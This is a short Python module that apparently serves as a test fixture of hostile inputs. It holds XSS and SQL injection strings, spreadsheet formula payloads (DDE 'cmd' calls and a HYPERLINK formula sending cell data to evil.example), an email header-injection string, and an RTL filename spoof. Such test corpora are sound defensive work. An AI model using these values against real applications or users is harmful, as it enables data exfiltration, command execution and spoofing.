"""The hostile corpus: values that have broken web apps, PDFs, spreadsheets and email elsewhere."""
SCRIPT = "<script>alert('x')</script>"
IMG = '"><img src=x onerror=alert(1)>'
REPORTLAB = '<para><font color="red" size="40">Big</font></para> & <b>bold</b> &amp; <br/>'
SQL = "Robert'); DROP TABLE registrations;--"
SQL_OR = "\" OR 1=1 --"
FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0")
CRLF = "Line one\r\nBcc: victim@example.org"
CONTROL = "Tab\there bell\x07 escape\x1b[31m nul\x00 end"
RTL = "Invoice \u202egnp.exe"
LONG = "A" * 10_000
EMOJI = "Aung 🙂👩🏽‍⚕️🇲🇲"

TEXT = (SCRIPT, IMG, REPORTLAB, SQL, SQL_OR, *FORMULAS, CRLF, CONTROL, RTL, LONG, EMOJI)
MARKUP = ("<script>", "<img src=x", "<para>", "<font ")  # must never reach a page unescaped
INVALID_UTF8 = b"\xff\xfe\xfa\xc3\x28\xa0\xa1\xe2\x28\xa1\xf0\x28\x8c\xbc"
